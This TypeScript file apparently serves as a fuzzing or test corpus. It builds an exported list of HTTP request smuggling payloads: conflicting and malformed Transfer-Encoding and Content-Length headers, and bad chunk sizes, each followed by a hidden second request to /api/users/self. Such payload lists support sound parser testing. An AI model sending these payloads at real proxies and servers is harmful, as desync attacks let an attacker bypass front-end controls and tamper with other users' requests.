const next = 'GET /api/users/self HTTP/1.1\r\nhost: x\r\n\r\n';
/** The end of a chunked body, and a request that hides behind it. */
const afterChunks = `0\r\n\r\n${next}`;

/** Headers that say in two ways, or in a broken one, how long the body is. */
const heads = [
  'content-length: 4\r\ntransfer-encoding: chunked',
  'transfer-encoding: chunked\r\ncontent-length: 4',
  'transfer-encoding: chunked\r\ntransfer-encoding: identity',
  'transfer-encoding: identity\r\ntransfer-encoding: chunked\r\ncontent-length: 5',
  'transfer-encoding: chunked, identity',
  'transfer-encoding: chunked, chunked',
  'transfer-encoding: xchunked',
  'transfer-encoding: chunkedx',
  'transfer-encoding: "chunked"',
  'transfer-encoding: chunked;q=1',
  'transfer-encoding : chunked',
  'transfer-encoding:\u000bchunked',
  'transfer-encoding: chunked\u0000',
  'transfer-encoding: chun\rked',
  'transfer-encoding\r\n : chunked',
  'x: y\rtransfer-encoding: chunked\r\ncontent-length: 9',
  'x: y\ntransfer-encoding: chunked\r\ncontent-length: 9',
] as const;

/** Lengths that programs read differently; four bytes of a body follow. */
const lengths = [
  'content-length: 4\r\ncontent-length: 40',
  'content-length: 4, 40',
  'content-length: 4, 4',
  'content-length: 4 4',
  'content-length: +4',
  'content-length: -4',
  'content-length: 0x4',
  'content-length: 4.0',
  'content-length: 4e0',
  'content-length: four',
  'content-length: 18446744073709551620',
  'content-length : 4',
] as const;

/** Chunks whose size or end is not what it should be. */
const chunks = [
  `4;\n\r\nabcd\r\n${afterChunks}`,
  `-4\r\nabcd\r\n${afterChunks}`,
  `0x4\r\nabcd\r\n${afterChunks}`,
  `10000000000000004\r\nabcd\r\n${afterChunks}`,
  `4\nabcd\n0\n\n${next}`,
  `4\r\nabcdef\r\n${afterChunks}`,
  `4\r\nabcd${afterChunks}`,
  `g\r\nabcd\r\n${afterChunks}`,
] as const;

/** What follows the first lines of a POST: requests that a proxy and a server could count differently. */
export const smuggling: readonly string[] = [
  ...heads.map((head) => `${head}\r\n\r\n${afterChunks}`),
  ...lengths.map((length) => `${length}\r\n\r\nabcd${next}`),
  ...chunks.map((chunk) => `transfer-encoding: chunked\r\n\r\n${chunk}`),
];
